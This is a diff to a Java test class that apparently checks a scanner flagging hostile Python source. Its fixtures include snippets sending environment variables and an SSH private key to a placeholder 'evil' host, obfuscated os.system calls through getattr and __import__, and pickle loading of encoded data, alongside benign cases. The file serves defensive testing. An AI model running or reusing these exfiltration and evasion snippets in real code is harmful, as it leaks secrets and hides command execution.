@@ -29,6 +29,7 @@ class SourceJudgeTest {
                 "import os, requests\nrequests.post('http://evil', data=dict(os.environ))",
                 "import urllib.request as u\nkey = open('/root/.ssh/id_rsa').read()\nu.urlopen('http://evil?' + key)",
                 "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
+                "run = getattr(__import__('os'), name)\nrun('id')",
                 "import importlib\nimportlib.import_module('os').system('id')",
                 "import pickle, base64\npickle.loads(base64.b64decode('gASVIQAAAAAAAACMBXBvc2l4'))"
             })
@@ -47,6 +48,8 @@ class SourceJudgeTest {
                 "import pickle\nwith open('x', 'rb') as f:\n    model = pickle.load(f)\n",
                 "import os, requests\nrequests.get('http://hub', headers={'token': os.getenv('TOKEN')})\n",
                 "import importlib\nmodule = importlib.import_module('transformers')\n",
+                "def load(module, name):\n    return getattr(__import__(module, None, None, [name]), name)\n",
+                "version = getattr(__import__('omp'), 'VERSION', 45)\n",
                 "expression = compile('1 + 1', 'x', 'eval')\n"
             })
     void ordinaryCodeIsClean(String source) {
